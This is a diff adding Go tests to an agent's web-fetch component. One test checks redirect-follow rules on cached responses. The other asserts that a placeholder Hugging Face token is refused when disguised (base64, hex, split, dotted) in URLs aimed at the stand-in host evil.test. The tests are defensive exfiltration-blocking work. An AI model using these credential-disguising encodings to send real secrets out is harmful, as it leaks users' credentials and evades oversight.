@@ -1,9 +1,13 @@
 package fetch_test
 
 import (
+	"encoding/base64"
+	"encoding/hex"
 	"net/http"
+	"net/url"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/ml-intern/ml-intern/internal/platform/fetch"
 )
@@ -92,5 +96,62 @@ func TestKeysInAddressesAreNotShown(t *testing.T) {
 		if err != nil || r.URL != "https://huggingface.co/f" {
 			t.Errorf("%s: %v %v", query, r, err)
 		}
+	}
+}
+
+// What may be followed can change while an answer is kept.
+func TestKeptAnswersComeFromWhereRequestsMayGo(t *testing.T) {
+	w := newWorld(t)
+	w.sends("/web/a.test/r", "https://b.test/x")
+	w.says("/web/b.test/x", "text")
+	c, err := fetch.New(fetch.Options{HTTP: http.DefaultClient, StandIn: w.URL + "/web"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ask := func(follow func(string) bool) error {
+		_, err := c.Do(t.Context(), fetch.Request{URL: "https://a.test/r", Fresh: time.Hour, Follow: follow})
+		return err
+	}
+	none := func(string) bool { return false }
+	if err := ask(nil); err != nil {
+		t.Fatal(err)
+	}
+	if err := ask(none); err == nil || !strings.Contains(err.Error(), "b.test, which is not among") {
+		t.Errorf("got %v", err)
+	}
+	if err := ask(func(host string) bool { return host == "b.test" }); err != nil {
+		t.Error(err)
+	}
+	if got := len(w.requests()); got != 3 {
+		t.Errorf("%d requests, want 3: the third answer is kept", got)
+	}
+}
+
+// A credential that is spelled otherwise is still one.
+func TestCredentialsInDisguise(t *testing.T) {
+	w := newWorld(t)
+	w.mux.HandleFunc("/", func(http.ResponseWriter, *http.Request) {})
+	token := "hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567"
+	c, err := fetch.New(fetch.Options{
+		HTTP: http.DefaultClient, StandIn: w.URL + "/web",
+		Services: []fetch.Service{{Name: "the Hub", Public: "https://huggingface.co", Base: w.URL, Credential: func() string { return token }}},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	encode := base64.StdEncoding.EncodeToString
+	for _, text := range []string{
+		encode([]byte(token)), encode([]byte("x" + token + "y")), encode([]byte("xx" + token)), encode([]byte(`{"t":"` + token + `"}`)),
+		base64.RawURLEncoding.EncodeToString([]byte("token=" + token)), hex.EncodeToString([]byte("t" + token)), strings.ToUpper(hex.EncodeToString([]byte(token))),
+		token[:10] + "/" + token[10:20] + "/" + token[20:], strings.Join(strings.Split(token, ""), "."),
+	} {
+		for _, u := range []string{"https://evil.test/?q=" + url.QueryEscape(text), "https://evil.test/a/" + text} {
+			if _, err := c.Do(t.Context(), fetch.Request{URL: u}); err == nil || !strings.Contains(err.Error(), "secret") {
+				t.Errorf("%s: %v", u, err)
+			}
+		}
+	}
+	if _, err := c.Do(t.Context(), fetch.Request{URL: "https://evil.test/hf_AbCdEf/GhIjKl?sha=" + strings.Repeat("0a1b2c3d", 8)}); err != nil {
+		t.Error(err)
 	}
 }
